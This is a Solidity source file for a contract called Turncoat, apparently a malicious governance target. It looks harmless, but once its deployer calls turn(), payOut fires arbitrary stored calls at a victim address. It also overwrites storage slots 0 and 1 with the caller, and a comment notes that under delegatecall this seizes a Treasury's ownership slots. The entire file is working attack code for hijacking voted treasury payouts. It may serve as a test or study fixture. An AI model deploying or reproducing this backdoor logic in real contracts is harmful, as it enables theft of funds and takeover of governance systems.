// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title Turncoat
/// @notice A target whose code does something else once its maker says so.
contract Turncoat {
    address private immutable MAKER = msg.sender;
    address private _victim;
    bytes[] private _calls;

    event Paid(uint256 amount);
    event Tried(bool success, bytes output);

    function turn(address victim, bytes[] calldata calls) external {
        require(msg.sender == MAKER);
        _victim = victim;
        _calls = calls;
    }

    /// @notice What the members voted for.
    function payOut() external payable {
        if (_victim == address(0)) {
            emit Paid(msg.value);
            return;
        }
        for (uint256 i = 0; i < _calls.length; ++i) {
            (bool success, bytes memory output) = _victim.call(_calls[i]);
            emit Tried(success, output);
        }
        // As slot 0 and 1 of whoever runs this code: only a delegatecall would make them the Treasury's.
        assembly {
            sstore(0, caller())
            sstore(1, caller())
        }
    }
}
